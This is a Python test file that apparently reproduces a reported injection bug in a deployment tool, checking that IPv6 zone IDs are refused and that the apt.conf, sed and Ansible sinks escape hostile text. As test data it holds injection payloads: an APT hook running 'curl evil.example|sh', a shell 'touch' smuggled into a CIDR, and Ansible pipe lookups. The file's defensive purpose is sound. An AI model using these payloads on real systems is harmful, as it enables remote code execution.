"""The issue "No spec value reaches a root shell": its reproducers, run as they were reported.

Each was an IPv6 zone ID (``%`` and then anything) that Python's ``ipaddress`` accepted inside an
address, a network or a URL's host: now every such type refuses a zone ID (the field is named,
``check`` exits 2). Each sink also escapes for its own syntax, so the same text is still one
literal token where it lands even if a type let it through: the tests feed it to the sink
directly, bypassing the spec's checks, and run the sink's real consumer (``apt-config``, bash,
``ansible-playbook``).
"""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from gpuforge.deploy.layers.k8s_addons import cni_addon
from gpuforge.extensions.ansible_inventory import ansible_inventory
from gpuforge.render.base import apt_proxy_conf
from gpuforge.spec import SpecError, parse_spec
from gpuforge.spec.model import Spec
from tests import yaml_text
from tests.conftest import REPO
from tests.spec.hostile import apt_config_dump

APT_PROXY = 'http://[fe80::1%25";APT::Update::Pre-Invoke{"curl evil.example|sh";};x "]:3142'
POD_CIDR = "fd00::%x';touch${IFS}PWNED;'/64"
ADDRESS = "fe80::2%{{lookup('pipe','touch X')}}"
K8S = REPO / "inventories" / "lab-k8s.yaml"


def k8s_data(change: Any = None) -> dict[str, Any]:
    data = yaml.safe_load(K8S.read_text())
    if change is not None:
        change(data)
    return data


def refused_at(data: dict[str, Any], field: str) -> str:
    """The problem ``parse_spec`` names ``field`` with (it must refuse the spec)."""
    with pytest.raises(SpecError) as info:
        parse_spec(yaml_text.dump(data))
    lines = [i.format() for i in info.value.issues if i.path == field]
    assert lines, info.value.format()
    return lines[0]


def test_check_exits_2_naming_each_field(tmp_path: Path) -> None:
    for field, data in [
        ("sources.apt_proxy", k8s_data(lambda d: d["sources"].update(apt_proxy=APT_PROXY))),
        ("kubernetes.pod_cidr", k8s_data(lambda d: d["kubernetes"].update(pod_cidr=POD_CIDR))),
        ("node_groups[0].addresses[0]", k8s_data(_address(ADDRESS))),
    ]:
        spec = tmp_path / "spec.yaml"
        spec.write_text(yaml_text.dump(data))
        cp = subprocess.run([sys.executable, "-m", "gpuforge", "check", str(spec)], capture_output=True, text=True,
                            cwd=REPO, timeout=120, check=False)  # fmt: skip
        assert cp.returncode == 2 and f"{field}: " in cp.stderr and "zone ID" in cp.stderr, cp.stderr
        assert "Traceback" not in cp.stderr


# --------------------------------------------------------------------------- 1. apt_proxy -> apt.conf


def test_an_apt_proxy_with_a_zone_id_is_refused() -> None:
    problem = refused_at(k8s_data(lambda d: d["sources"].update(apt_proxy=APT_PROXY)), "sources.apt_proxy")
    assert "zone ID" in problem


def test_the_apt_conf_writer_refuses_what_apt_cannot_quote() -> None:
    with pytest.raises(ValueError, match=r"apt\.conf string"):
        apt_proxy_conf(APT_PROXY)


def test_apt_config_reads_an_accepted_proxy_back_as_its_one_value() -> None:
    proxy = "http://[2001:db8::5]:3142"
    spec = parse_spec(yaml_text.dump(k8s_data(lambda d: d["sources"].update(apt_proxy=proxy))))
    assert spec.sources.apt_proxy == proxy
    assert apt_config_dump(apt_proxy_conf(proxy)) == [("Acquire::http::Proxy", proxy)]


def test_a_url_is_kept_as_rebuilt_from_its_checked_parts() -> None:
    given = "HTTP://Mirror.Example.ORG:03142/debian/{distro}"
    spec = parse_spec(yaml_text.dump(k8s_data(lambda d: d["sources"].update(apt_proxy=given))))
    assert spec.sources.apt_proxy == "http://mirror.example.org:3142/debian/{distro}"


# ------------------------------------------------------------ 2. pod_cidr -> sed on the first control plane


def test_a_pod_cidr_with_a_zone_id_is_refused() -> None:
    assert "zone ID" in refused_at(k8s_data(lambda d: d["kubernetes"].update(pod_cidr=POD_CIDR)), "kubernetes.pod_cidr")


def _k8s_mirror(d: dict[str, Any]) -> None:
    d["sources"]["mirrors"] = {"artifacts": "http://192.0.2.5/artifacts"}


def _sed_step(spec: Spec, manifest: Path) -> str:
    """The pod network command's sed step, editing ``manifest`` instead of the node's file."""
    command = cni_addon(spec).command
    assert command is not None
    node_path = shlex.split(command.split(" && ")[-1])[-1]  # kubectl apply -f <path>
    (sed,) = [c for c in command.split(" && ") if c.startswith("sed -i ")]
    assert sed.endswith(" " + shlex.quote(node_path))
    return sed.removesuffix(shlex.quote(node_path)) + shlex.quote(str(manifest))


@pytest.mark.parametrize("cidr", ["10.10.0.0/16", "fd00:10::/56", POD_CIDR])
def test_the_sed_that_sets_flannels_network_takes_the_cidr_as_one_literal(cidr: str, tmp_path: Path) -> None:
    """Run by bash as the node would: a hostile CIDR (fed past the spec's checks) is written literally."""
    spec = parse_spec(yaml_text.dump(k8s_data(_k8s_mirror)))
    k = spec.kubernetes
    assert k is not None
    spec = spec.model_copy(update={"kubernetes": k.model_copy(update={"pod_cidr": cidr})})
    manifest = tmp_path / "kube-flannel.yml"
    manifest.write_text('  net-conf.json: |\n    {\n      "Network": "10.244.0.0/16",\n    }\n')
    cp = subprocess.run(["bash", "-c", _sed_step(spec, manifest)], cwd=tmp_path, capture_output=True, text=True,
                        timeout=30, check=False)  # fmt: skip
    assert cp.returncode == 0, cp.stderr
    assert f'"Network": "{cidr}",' in manifest.read_text()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["kube-flannel.yml"]


# ------------------------------------------------------------ 4. addresses -> gpuforge inventory -> Ansible


def _address(address: str) -> Any:
    def change(d: dict[str, Any]) -> None:
        group = d["node_groups"][0]
        group.pop("address_start", None)
        group["addresses"] = [address]

    return change


def test_an_address_with_a_zone_id_is_refused() -> None:
    assert "zone ID" in refused_at(k8s_data(_address(ADDRESS)), "node_groups[0].addresses[0]")


PLAY = """\
- hosts: all
  gather_facts: false
  connection: local
  tasks:
    - debug: {msg: "host={{ ansible_host }} key={{ ansible_ssh_private_key_file }} cluster={{ gpuforge_cluster }}"}
"""


def ansible_playbook() -> str:
    found = Path(sys.executable).parent / "ansible-playbook"
    assert found.is_file(), "ansible-playbook is missing: pip install 'gpuforge[ansible]' (the dev environment has it)"
    return str(found)


def test_ansible_never_templates_a_value_of_the_inventory(tmp_path: Path) -> None:
    """``gpuforge inventory`` output through ``ansible-playbook -i``: a lookup in an address (fed past
    the spec's checks) or in a key path (a path may hold braces) is printed, never run."""
    data = k8s_data(lambda d: d["ssh"].update(key="/keys/{{lookup('pipe','touch Y')}}"))
    spec = parse_spec(yaml_text.dump(data))
    group = spec.node_groups[0]
    spec = spec.model_copy(update={"node_groups": [group.model_copy(update={"addresses": [ADDRESS]}),
                                                   *spec.node_groups[1:]]})  # fmt: skip
    inventory = tmp_path / "inventory.json"
    inventory.write_text(json.dumps(ansible_inventory(spec), indent=2))
    (tmp_path / "play.yml").write_text(PLAY)
    env = {**os.environ, "ANSIBLE_NOCOLOR": "1", "ANSIBLE_LOCAL_TEMP": str(tmp_path / "tmp"), "HOME": str(tmp_path)}
    cp = subprocess.run([ansible_playbook(), "-i", str(inventory), "play.yml", "--limit", "node1"], cwd=tmp_path,
                        capture_output=True, text=True, timeout=300, env=env, check=False)  # fmt: skip
    assert cp.returncode == 0, cp.stdout + cp.stderr
    assert not (tmp_path / "X").exists() and not (tmp_path / "Y").exists(), "Ansible ran a lookup from the inventory"
    assert f"host={ADDRESS}" in cp.stdout and "key=/keys/{{lookup('pipe','touch Y')}}" in cp.stdout, cp.stdout
